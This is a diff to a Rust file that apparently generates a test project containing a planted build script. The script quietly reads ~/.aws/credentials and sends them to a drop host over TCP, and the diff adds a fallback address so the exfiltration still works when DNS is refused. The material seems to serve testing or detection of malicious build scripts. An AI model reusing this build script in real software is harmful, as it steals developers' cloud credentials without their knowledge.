@@ -40,7 +40,8 @@ edition = "2021"
 
 const PLANTED_LIB: &str = "pub const VERSION: &str = env!(\"CARGO_PKG_VERSION\");\n";
 
-/// What the planted build script does: read, ask, carry. Every step is quiet about its failure, as such scripts are.
+/// What the planted build script does: read, ask, carry. Every step is quiet about its failure, as such scripts are. Where the
+/// name is refused it has the address built in.
 const PLANTED_BUILD: &str = r#"use std::io::Write;
 use std::net::{TcpStream, UdpSocket};
 use std::time::Duration;
@@ -53,12 +54,12 @@ fn main() {
 fn carry() -> Option<()> {
     let home = std::env::var("HOME").ok()?;
     let secret = std::fs::read(format!("{home}/.aws/credentials")).ok()?;
-    let address = resolve("NAME")?;
+    let address = resolve("NAME").unwrap_or([ADDRESS]);
     let mut stream = TcpStream::connect_timeout(&(address, PORT).into(), Duration::from_secs(5)).ok()?;
     stream.write_all(&secret).ok()
 }
 
-/// One DNS question, asked of the drop host itself; the address is the end of its answer.
+/// One DNS question, asked of the drop host itself; the address is the end of its answer, if there is one.
 fn resolve(name: &str) -> Option<[u8; 4]> {
     let mut query = vec![0x5e, 0xed, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
     for label in name.split('.') {
@@ -71,6 +72,9 @@ fn resolve(name: &str) -> Option<[u8; 4]> {
     socket.send_to(&query, "RESOLVER:53").ok()?;
     let mut answer = [0; 512];
     let length = socket.recv(&mut answer).ok()?;
+    if answer[7] == 0 {
+        return None;
+    }
     answer[length.checked_sub(4)?..length].try_into().ok()
 }
 "#;
@@ -93,7 +97,8 @@ impl Project {
         let planted = PLANTED_BUILD
             .replace("NAME", drop_host::NAME)
             .replace("PORT", &format!("{}_u16", drop_host::PORT))
-            .replace("RESOLVER", &DROP_HOST.to_string());
+            .replace("RESOLVER", &DROP_HOST.to_string())
+            .replace("ADDRESS", &DROP_HOST.octets().map(|octet| octet.to_string()).join(", "));
         for (path, text) in [
             ("project/Cargo.toml", MANIFEST),
             ("project/src/main.rs", MAIN),
